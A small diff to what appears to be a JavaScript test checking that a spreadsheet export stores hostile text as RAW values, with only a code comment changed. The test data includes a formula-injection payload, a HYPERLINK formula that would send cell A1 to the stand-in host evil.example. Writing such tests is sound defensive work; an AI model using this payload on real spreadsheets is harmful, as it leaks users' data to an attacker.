@@ -306,7 +306,7 @@ describe('hostile text in every text field', () => {
     for (const f of ['=HYPERLINK("http://evil.example/?"&A1,"Click me")', '-2+3', '=1+1']) {
       expect(sheetText, f).toContain(f);
     }
-    // Every write of cell values is RAW (the tab's widening to column AB writes none).
+    // Every write of cell values is RAW (the tab's widening past column Z writes none).
     const valueWrites = emu.writeLog.filter((w) => w.method !== 'spreadsheets.batchUpdate');
     expect(valueWrites.length).toBeGreaterThan(0);
     expect(valueWrites.every((w) => w.valueInputOption === 'RAW')).toBe(true);
